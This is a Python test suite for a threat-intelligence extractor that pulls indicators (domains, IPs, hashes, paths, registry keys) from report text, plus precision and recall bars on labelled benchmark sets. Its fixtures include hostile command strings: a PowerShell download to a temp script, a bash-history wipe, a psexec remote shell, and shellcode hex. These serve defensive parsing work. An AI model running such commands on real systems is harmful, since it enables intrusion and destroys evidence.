"""IoC precision and recall bugs found with the labelled set (one test each), and the bar on
the labelled set itself: `benchmarks/data/ioc_labelled.jsonl`, written for this project."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from mitremap.iocs import extract_iocs

BENCHMARKS = Path(__file__).resolve().parents[2] / "benchmarks"
LABELLED = BENCHMARKS / "data" / "ioc_labelled.jsonl"
DEV = BENCHMARKS / "data" / "ioc_dev.jsonl"
HELD_BACK = BENCHMARKS / "data" / "ioc_heldback.jsonl"


def found(text: str) -> set[tuple[str, str]]:
    return {(i.type, i.value) for i in extract_iocs(text)}


def offsets_hold(text: str) -> None:
    for i in extract_iocs(text):
        assert text[i.start : i.end] == i.raw, i


# --- precision ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["blocked 198.51.100.0/22.", "ranges 10.0.0.0/8. Then", "(45.134.26.0/24.)"],
)
def test_cidr_block_at_the_end_of_a_sentence_is_no_url(text: str) -> None:
    assert found(text) == set()


@pytest.mark.parametrize(
    "text",
    [
        "See section 4.2.1.3 of the spec",
        "and Table 2.1.1.4 for the full list",
        'config {"version": "2.1.4.7", "sleep": 60}',
        "revision 3.1.4.1 of 2024-06-30",
        "Fig. 1.2.3.4 shows the flow",
        "the bug was fixed in 9.1.18.2",
    ],
)
def test_section_table_and_keyed_version_numbers_are_no_ipv4(text: str) -> None:
    assert found(text) == set()


def test_version_column_of_a_markdown_table_is_no_ipv4() -> None:
    table = (
        "| Vulnerability | Product | Fixed in |\n|---|---|---|\n"
        "| CVE-2023-46805 | Ivanti Connect Secure | 22.6.1.1 |\n"
        "| CVE-2024-21887 | Ivanti Policy Secure | 9.1.18.2 |"
    )
    assert found(table) == {("cve", "CVE-2023-46805"), ("cve", "CVE-2024-21887")}


def test_ip_column_of_a_markdown_table_stays_ipv4() -> None:
    table = "| Indicator | Type |\n|---|---|\n| 4.3.2.1 | IPv4 |\n| 45.142.214[.]48 | IPv4 |"
    assert found(table) == {("ipv4", "4.3.2.1"), ("ipv4", "45.142.214.48")}


@pytest.mark.parametrize(
    "text",
    [
        "Shellcode (hex): fc4883e4f0e8c0000000415141505251 then",
        "dump 4d5a90000300000004000000ffff0000 MZ",
    ],
)
def test_hex_with_a_run_of_zeros_is_shellcode_not_a_hash(text: str) -> None:
    assert found(text) == set()


def test_unc_host_without_a_share_is_no_path() -> None:
    assert found(r"ran psexec.exe \\FS01 -s cmd") == {("file_name", "psexec.exe")}
    assert ("windows_path", r"\\FS01\share\x.exe") in found(r"copied to \\FS01\share\x.exe")


@pytest.mark.parametrize(
    "text", [r"mutex Global\MSCTF.Asm.{A3F2} set", r"event Local\Mtx.1 and Session\1\a.b"]
)
def test_kernel_object_names_are_no_paths(text: str) -> None:
    assert not {kind for kind, _ in found(text)} & {"windows_path", "registry_key"}


@pytest.mark.parametrize(
    ("text", "paths"),
    [
        (
            r"ran C:\Windows\Temp\svchost.exe. Also %TEMP%\a.bat, then",
            {r"C:\Windows\Temp\svchost.exe", r"%TEMP%\a.bat"},
        ),
        (
            r"copied \\FS01\share\x.exe and Global\MSCTF.Asm.{A3F2}",
            {r"\\FS01\share\x.exe"},
        ),
    ],
)
def test_a_windows_path_does_not_run_on_into_the_next_sentence(text: str, paths: set) -> None:
    assert {v for kind, v in found(text) if kind == "windows_path"} == paths


def test_file_names_inside_url_paths_are_no_file_indicators() -> None:
    text = 'POST /vpn/../vpns/portal/scripts/newbm.pl and GET /wp-admin/admin-ajax.php "-"'
    assert found(text) == set()
    assert found("the script newbm.pl ran") == {("file_name", "newbm.pl")}


def test_a_comma_ends_a_url_path_in_csv_but_not_in_a_query() -> None:
    text = "hxxp://files-dropbox-share[.]com/d/inv.iso,url,high and http://a.com/q?ids=1,2,3 ok"
    assert found(text) == {
        ("url", "http://files-dropbox-share.com/d/inv.iso"),
        ("url", "http://a.com/q?ids=1,2,3"),
    }


@pytest.mark.parametrize("name", ["main.rs", "main.tf", "id_rsa.pub", "notes.ps", "evil.service"])
def test_source_and_config_file_names_are_no_domains(name: str) -> None:
    assert found(f"the repo held {name} too") == {("file_name", name)}


@pytest.mark.parametrize("text", ["hosted at evil-c2.cc now", "phish at chat-gpt-login.ai now"])
def test_cc_and_ai_names_stay_domains(text: str) -> None:
    assert {kind for kind, _ in found(text)} == {"domain"}


def test_wildcard_name_with_an_extension_tld_is_a_domain() -> None:
    assert found("tunnels (*.ngrok-free.app) used") == {("domain", "ngrok-free.app")}


@pytest.mark.parametrize(
    "text", ["block 2001:db8::/32 now", "ranges fe80::/10.", "2a00:1450::/29,"]
)
def test_ipv6_cidr_block_is_no_address(text: str) -> None:
    assert found(text) == set()


# --- found by running the extractor over the shared TRAM and AnnoCTR reports ---------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("images (Figure%205.png) and (Picture%2013.png) and wscript%201.vbs", set()),
        ("continue%3Dhttps%3A%2F%2Fevil[.]biz%2FDoc.doc", {("domain", "evil.biz")}),
        ("a .NET sample (Figure%207%20-%20.NET%201.png)", set()),
    ],
)
def test_url_encoded_text_starts_names_after_the_escape(text: str, expected: set) -> None:
    assert found(text) == expected


def test_a_call_in_code_is_no_domain() -> None:
    assert found("cont=file.read() and os.system(cmd)") == set()


def test_numbered_headings_are_no_ipv4() -> None:
    text = "**1.2.1.1** [**Socat**](x)\n**1.2.1.2 Miner Dropper**\n## 2.3.1.4 Persistence\n"
    assert found(text) == set()
    listed = "8.8.8.8 Google DNS\n45.1.2.3 Cobalt Strike\n1.2.3.4 was the C2\n"
    assert {v for _, v in found(listed)} == {"8.8.8.8", "45.1.2.3", "1.2.3.4"}


def test_capability_versions_and_placeholder_quads_are_no_ipv4() -> None:
    assert found("Rsat.ActiveDirectory.DS-LDS.Tools~~~~0.0.1.0 and 000.000.000.000") == set()


def test_prose_about_a_defanging_marker_is_no_domain() -> None:
    assert found("a dot (.) is enforced before the FQDN") == set()
    assert found("host evil [.] com here") == {("domain", "evil.com")}


def test_address_glued_to_a_name_is_split() -> None:
    assert found("IPs:\n5.42.199.83superliner.top\n") == {
        ("ipv4", "5.42.199.83"),
        ("domain", "superliner.top"),
    }


def test_glued_sentences_with_a_word_extension_are_no_file() -> None:
    assert found("installed in the system.Service Name: X") == set()
    assert found("unit kworker.service started") == {("file_name", "kworker.service")}


def test_slash_between_alternatives_keeps_the_file_name() -> None:
    assert found("the Info32/Info64.dll plugin") == {("file_name", "Info64.dll")}


def test_ampersand_ends_a_windows_path() -> None:
    text = r"-o %documents%\macroor.dll& %documents%\macroor.dll #1"
    assert {v for _, v in found(text)} == {r"%documents%\macroor.dll"}


def test_commas_in_a_url_fragment_stay() -> None:
    url = "https://www.crn.com/news/x-#:~:text=Master%20MSP,ransomware%20to"
    assert found(f"see {url} now") == {("url", url)}


def test_glued_hash_header_is_not_part_of_the_file_name() -> None:
    md5 = "34de9725e232ba82275bb0dcf9282e16"
    assert found(f"MD5 SHA1 SHA256ca3ec998_xp.exe{md5} b17403e7") == {
        ("file_name", "ca3ec998_xp.exe"),
        ("md5", md5),
    }


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            r"Run key HKEY\_CURRENT\_USER\Software\Microsoft\Windows\CurrentVersion\Run set",
            {("registry_key", r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run")},
        ),
        (r"from <consulate\_ksa\_emb@gmail.com>", {("email", "consulate_ksa_emb@gmail.com")}),
        (r"dropped inject\_usb.dll and READ\_ME.hta", {("file_name", "inject_usb.dll"), ("file_name", "READ_ME.hta")}),
        (r"GET http://5.149.255.14/host32\_pic.bin now", {("url", "http://5.149.255.14/host32_pic.bin")}),
        (r"the function download\_and\_exec and DNS\_TYPE\_NULL", set()),
        (r"x ABAGF\_B\_\_DFEC.txt y", {("file_name", "ABAGF_B__DFEC.txt")}),
    ],
)  # fmt: skip
def test_markdown_escaped_underscores_are_read_as_underscores(text: str, expected: set) -> None:
    assert found(text) == expected
    offsets_hold(text)


def test_a_real_backslash_before_an_underscore_stays_a_path() -> None:
    path = r"C:\Users\Public\john\_old\x.exe"
    assert found(f"ran {path} now") == {("windows_path", path)}


@pytest.mark.parametrize(
    ("text", "values"),
    [
        (
            r"keys HKCU\Software\Run and HKLM\Software\x set",
            {r"HKEY_CURRENT_USER\Software\Run", r"HKEY_LOCAL_MACHINE\Software\x"},
        ),
        (r"in C:\Temp\Run and %TEMP%\x.exe", {r"C:\Temp\Run", r"%TEMP%\x.exe"}),
        (r"C:\Documents and Settings\x\a.exe", {r"C:\Documents and Settings\x\a.exe"}),
    ],
)
def test_and_between_two_paths_does_not_join_them(text: str, values: set) -> None:
    assert {v for _, v in found(text)} == values


def test_markdown_link_glued_to_the_next_word_ends_at_its_parenthesis() -> None:
    text = "[ATT&CK](https://attack.mitre.org/)**tactic and [x](https://a.com/x_(y))word"
    assert found(text) == {("url", "https://attack.mitre.org/"), ("url", "https://a.com/x_(y)")}


# --- PDF line breaks ---------------------------------------------------------------------------


def test_url_broken_after_a_hyphen_of_its_host_is_joined() -> None:
    text = "C2 at hxxps://update-service-\nnode[.]com/gate and, if that fails"
    assert found(text) == {("url", "https://update-service-node.com/gate")}
    offsets_hold(text)


def test_domain_and_email_broken_after_a_hyphen_are_joined() -> None:
    text = "contacts evil-\ndomain[.]com daily; mail accounts@globalfreight-\nlogistics[.]com."
    assert found(text) == {
        ("domain", "evil-domain.com"),
        ("email", "accounts@globalfreight-logistics.com"),
    }
    offsets_hold(text)


def test_the_tail_of_a_broken_name_is_no_domain_of_its_own() -> None:
    assert found("the host is a.evil-\nlogistics.com now") == set()
    assert found("a list -\nevil.com") == {("domain", "evil.com")}


def test_file_name_glued_to_a_hash_by_pdf_extraction() -> None:
    sha1 = "100a8fc54d02b13f9be84ce8d6758c85f2c2b7aa"
    assert found(f"Name SHA-1\nchrome_update.exe{sha1}\n") == {
        ("file_name", "chrome_update.exe"),
        ("sha1", sha1),
    }


# --- recall ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "asn"),
    [("a node in AS 399629.", "AS399629"), ("| RU | AS 57523 |", "AS57523")],
)
def test_asn_written_with_a_space(text: str, asn: str) -> None:
    assert found(text) == {("asn", asn)}


def test_as_followed_by_a_short_number_is_no_asn() -> None:
    assert found("KNOWN AS 12 GROUPS") == set()


def test_both_ends_of_an_ipv4_range_are_found() -> None:
    assert found("scanned 185.10.68.1-185.10.68.5 hourly") == {
        ("ipv4", "185.10.68.1"),
        ("ipv4", "185.10.68.5"),
    }
    assert found("version 1.2.3.4-1.2.3.5 out") == set()


def test_user_agent_with_a_two_digit_minor_version() -> None:
    text = "set as \u201cMozilla/4.08 (Charon; Inferno)\u201d, and"
    assert found(text) == {("user_agent", "Mozilla/4.08 (Charon; Inferno)")}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("phishing at bücher.de and mail.münchen-bank.de now", {("domain", "bücher.de"), ("domain", "mail.münchen-bank.de")}),
        ("the homoglyph \u0430pple.com (Cyrillic a)", {("domain", "\u0430pple.com")}),
        ("login at http://bücher.de/login now", {("url", "http://bücher.de/login")}),
    ],
)  # fmt: skip
def test_internationalised_names_are_found_as_written(text: str, expected: set) -> None:
    assert found(text) == expected
    offsets_hold(text)


def test_names_glued_to_chinese_text_are_found() -> None:
    text = (
        "攻击者访问evil-c2.com进行通信，并连接到45.77.1.2。哈希值44d88612fea8a8f36de82e1278abb02f。"
    )
    assert found(text) == {
        ("domain", "evil-c2.com"),
        ("ipv4", "45.77.1.2"),
        ("md5", "44d88612fea8a8f36de82e1278abb02f"),
    }


def test_one_letter_foreign_label_and_cjk_glued_file_names_give_nothing() -> None:
    assert found("|7±-.å.jp!>Õ!,Á7µ|") == set()
    assert found("Setup-中文p.msi (installer)") == set()


def test_internationalised_names_stay_linear() -> None:
    import time

    started = time.process_time()
    extract_iocs("ü.a" * 100_000 + "ü-ü.aa" * 50_000)
    assert time.process_time() - started < 2.0


def test_attack_url_with_a_sub_technique_gives_the_sub_technique() -> None:
    text = "see https://attack.mitre.org/techniques/T1566/001/ and T1566/001 in prose"
    assert found(text) == {
        ("url", "https://attack.mitre.org/techniques/T1566/001/"),
        ("attack_technique", "T1566.001"),
        ("attack_technique", "T1566"),
    }


def test_powershell_env_path_keeps_its_prefix() -> None:
    assert ("windows_path", r"$env:TEMP\s.ps1") in found(r"iwr http://x.com/s -o $env:TEMP\s.ps1")


def test_home_dotfile_is_a_unix_path() -> None:
    assert found("rm -rf ~/.bash_history now") == {("unix_path", "~/.bash_history")}


def test_file_sharing_services_with_extension_tlds_are_domains() -> None:
    assert found("uploaded to transfer.sh and temp.sh") == {
        ("domain", "transfer.sh"),
        ("domain", "temp.sh"),
    }


# --- issue 13: the four kinds of false positive on held-back text --------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "The dropper exited.So the second stage had to be started by hand.",
        "They cleared the event log.Log clearing was followed by vssadmin.",
        "Stored in the profile.Key material was hard-coded.",
        "It contained a shortcut.Lnk files like this one start rundll32.",
        "Traffic stopped after the takedown.Go samples changed servers.",
    ],
)
def test_words_glued_to_a_sentence_end_are_no_file_names(text: str) -> None:
    assert found(text) == set()


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("dropped lib.so and then", "lib.so"),
        ("the file Invoice.Pdf was", "Invoice.Pdf"),  # a capitalised name: a file, not glue
        ("opened REPORT.DOC today", "REPORT.DOC"),
    ],
)
def test_file_names_with_capitals_are_still_file_names(text: str, name: str) -> None:
    assert found(text) == {("file_name", name)}


@pytest.mark.parametrize(
    "text",
    [
        "builds 7.2.4.1 and 7.0.11.2 are also vulnerable",
        "the agent was upgraded from 3.1.0.12 to 3.2.1.4 overnight",
        "Patched releases: 10.4.1.3 and later, 10.3.8.2 and later.",
        "affected: 6.2.0.17 or earlier)",
        "versions 2.1.0.4, 2.1.0.5 and 2.1.0.6",
    ],
)
def test_dotted_version_numbers_in_a_version_context_are_no_ipv4(text: str) -> None:
    assert found(text) == set()


@pytest.mark.parametrize(
    ("text", "addresses"),
    [
        ("connected to 45.77.1.2 and later to 45.77.1.3", {"45.77.1.2", "45.77.1.3"}),
        ("The fix ships in release 5.0.1.12.\n103.57.24.251", {"103.57.24.251"}),
        ("build 10.0.19041.1 is 199.79.62.19", {"199.79.62.19"}),
        ("it downloaded a new version from 185.1.2.3 today", {"185.1.2.3"}),
        ("version 194.150.168[.]74", {"194.150.168.74"}),  # defanged: meant as an address
    ],
)
def test_addresses_near_version_words_stay_addresses(text: str, addresses: set) -> None:
    assert found(text) == {("ipv4", address) for address in addresses}


@pytest.mark.parametrize(
    "name",
    [
        "com.google.android.youtube",
        "com.sec.android.app.camera",
        "com.vendor.app",
        "org.telegram.messenger.web",
        "net.mycrypto.wallet.app",
    ],
)
def test_reverse_dns_package_names_are_no_domains(name: str) -> None:
    assert found(f"the package {name} overlays the banking app") == set()


@pytest.mark.parametrize(
    ("text", "domain"),
    [
        ("uploaded to org.s3.amazonaws.com buckets", "org.s3.amazonaws.com"),  # a bucket's host
        ("C2 at com[.]evil[.]app today", "com.evil.app"),  # defanged: a host
    ],
)
def test_names_starting_with_com_or_org_can_still_be_hosts(text: str, domain: str) -> None:
    assert found(text) == {("domain", domain)}


@pytest.mark.parametrize(
    ("text", "names"),
    [
        ("Victims who visited office-verify.zip were", {"office-verify.zip"}),
        ("were redirected to a harvester on login-ms365.mov.", {"login-ms365.mov"}),
        ("the new .zip TLD: github-release.zip and python-install.zip", {"github-release.zip", "python-install.zip"}),
    ],
)  # fmt: skip
def test_names_with_an_extension_tld_are_domains_when_the_text_says_host(
    text: str, names: set
) -> None:
    assert found(text) == {("domain", name) for name in names}


def test_names_with_an_extension_tld_stay_files_when_the_text_says_file() -> None:
    assert found("the implant downloads install.sh and update.zip") == {
        ("file_name", "install.sh"),
        ("file_name", "update.zip"),
    }
    # "tld" as the label of a name is no word about TLDs.
    assert found("see host.tld\nlib.so\n") == {("file_name", "lib.so")}


def test_android_data_paths_are_unix_paths() -> None:
    assert found("stores data under /data/data/com.vendor.app/files/ and /sdcard/Download/x") == {
        ("unix_path", "/data/data/com.vendor.app/files/"),
        ("unix_path", "/sdcard/Download/x"),
    }


# --- the labelled set ----------------------------------------------------------------------------


def test_labelled_set_is_well_formed() -> None:
    records = [json.loads(line) for line in LABELLED.read_text(encoding="utf-8").splitlines()]
    assert len(records) >= 100
    assert sum(len(r["iocs"]) for r in records) >= 300
    assert sum(len(r["traps"]) for r in records) >= 100
    assert_well_formed(records)


def test_issue_13_sets_are_well_formed_and_disjoint() -> None:
    dev = [json.loads(line) for line in DEV.read_text(encoding="utf-8").splitlines()]
    held = [json.loads(line) for line in HELD_BACK.read_text(encoding="utf-8").splitlines()]
    assert len(dev) >= 20 and len(held) >= 20
    assert not {r["text"] for r in dev} & {r["text"] for r in held}
    assert_well_formed(dev + held)


def test_dev_set_precision_and_recall(monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 13's bar (precision >= 0.99 at recall >= 0.97 on held-back text), checked on the
    dev part: the held-back part is for reporting, not for a test to tune against."""
    monkeypatch.syspath_prepend(str(BENCHMARKS))
    from bench_iocs_accuracy import score_mitremap

    score = score_mitremap(DEV)
    precision, recall, *_ = score.prf()
    errors = "\n".join(score.errors)
    assert precision >= 0.97, f"precision {precision:.3f}\n{errors}"
    assert recall >= 0.97, f"recall {recall:.3f}\n{errors}"


def assert_well_formed(records: list[dict]) -> None:
    for record in records:
        for trap in record["traps"]:
            assert trap in record["text"], (record["id"], trap)
        for ioc in record["iocs"] + record["optional"]:
            assert set(ioc) <= {"type", "value", "private"}, record["id"]


def test_labelled_set_precision_and_f1(monkeypatch: pytest.MonkeyPatch) -> None:
    """MitreMap on the project's labelled set: precision >= 0.98 and F1 >= 0.96."""
    monkeypatch.syspath_prepend(str(BENCHMARKS))  # the benchmarks are scripts, not a package
    from bench_iocs_accuracy import score_mitremap

    score = score_mitremap(LABELLED)
    precision, recall, f1, *_ = score.prf()
    errors = "\n".join(score.errors)
    assert precision >= 0.98, f"precision {precision:.3f}\n{errors}"
    assert f1 >= 0.96, f"F1 {f1:.3f} (recall {recall:.3f})\n{errors}"
